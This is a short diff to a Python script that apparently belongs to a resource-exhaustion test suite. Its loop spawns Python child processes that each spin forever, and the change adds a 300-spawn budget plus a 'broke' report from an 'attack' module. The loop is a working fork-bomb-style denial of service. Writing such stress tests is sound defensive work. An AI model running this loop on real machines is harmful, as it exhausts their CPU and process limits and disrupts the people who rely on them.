@@ -9,9 +9,16 @@
 
 import os
 import sys
+import time
 
+from attack import Budget, broke
+
+budget = Budget(300)
 while True:
     try:
         os.posix_spawn(sys.executable, ["python3", "-c", "while True: pass"], {})
     except OSError:
         continue
+    if not budget.take():
+        broke("three hundred programs")
+        time.sleep(3600)
